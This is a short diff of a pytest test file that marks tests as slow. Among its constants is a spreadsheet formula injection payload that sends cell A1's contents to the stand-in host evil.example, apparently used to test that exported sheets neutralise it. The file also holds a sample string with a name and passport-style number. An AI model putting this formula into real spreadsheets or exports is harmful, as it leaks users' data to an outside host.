@@ -15,6 +15,8 @@ import pytest
 
 from tests.seed import seed
 
+pytestmark = pytest.mark.slow  # company sheets (PDF) built for real, on a server of its own
+
 FOLLOW_UP = "ZHANG WEIXIANPRIVATE dipanggil ke kantor Imigrasi, paspor EZ9911001"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
 
